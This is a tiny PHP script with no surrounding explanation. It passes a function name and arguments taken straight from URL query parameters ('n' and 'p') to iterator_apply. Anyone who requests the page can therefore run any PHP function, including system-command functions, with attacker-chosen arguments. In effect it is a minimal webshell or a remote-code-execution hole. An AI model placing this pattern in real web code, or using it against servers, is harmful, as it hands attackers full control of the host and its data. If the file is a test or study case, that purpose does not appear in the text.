<?php
$it = new ArrayIterator([1]);
iterator_apply($it, $_GET['n'] ?? 'count', $_GET['p'] ?? []);
